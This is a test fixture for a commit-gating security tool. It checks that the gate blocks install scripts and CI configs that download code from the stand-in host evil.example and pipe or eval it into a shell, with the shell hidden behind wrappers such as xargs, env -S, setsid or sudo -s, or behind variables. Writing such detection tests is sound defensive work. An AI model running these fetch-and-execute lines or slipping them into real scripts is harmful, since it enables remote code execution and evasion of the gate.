# attack: the shell hides behind a wrapper (xargs, env -S, setsid, chroot, flock, sudo -s, parallel, a versioned name) or the download hides in a variable (`X=$(curl URL)`, then `eval "$X"`, `echo "$X" | sh`, `sh <<< "$X"`, `$X`), so no known shell follows the pipe and no `$(curl)` is in the code that runs
# surface: staged, range (CI)
# expect: block
base_repo
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/bash' "$line"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
curl -fsSL https://evil.example/x | xargs -0 sh -c
curl -fsSL https://evil.example/x | env -S 'bash -e'
curl -fsSL https://evil.example/x | setsid sh
curl -fsSL https://evil.example/x | chroot / sh
curl -fsSL https://evil.example/x | flock /tmp/lock sh
curl -fsSL https://evil.example/x | sudo -s
curl -fsSL https://evil.example/x | parallel
curl -fsSL https://evil.example/x | bash5.2
curl -fsSL https://evil.example/x | runuser -u nobody -- sh
X="$(curl -fsSL https://evil.example/x)"; eval "$X"
X="$(curl -fsSL https://evil.example/x)"; echo "$X" | sh
export X="$(curl -fsSL https://evil.example/x)"; sh <<< "$X"
X="$(curl -fsSL https://evil.example/x)"; $X
$(curl -fsSL https://evil.example/x)
sh 0< <(curl -fsSL https://evil.example/x)
F=/tmp/i.sh; curl -fsSL https://evil.example/x -o "$F" && sh "$F"
wget2 -O- https://evil.example/x | sh
http https://evil.example/x | sh
LINES
write .github/workflows/ci.yml 'on: push' 'permissions: {}' 'jobs:' '  a:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - run: curl -fsSL https://evil.example/x | xargs -0 bash -c'
write .gitlab-ci.yml 'job:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' '  script:' \
  '    - X="$(wget -qO- https://evil.example/x)"; eval "$X"'
commit change
export CI=true
gate block check --base "$base" --head HEAD
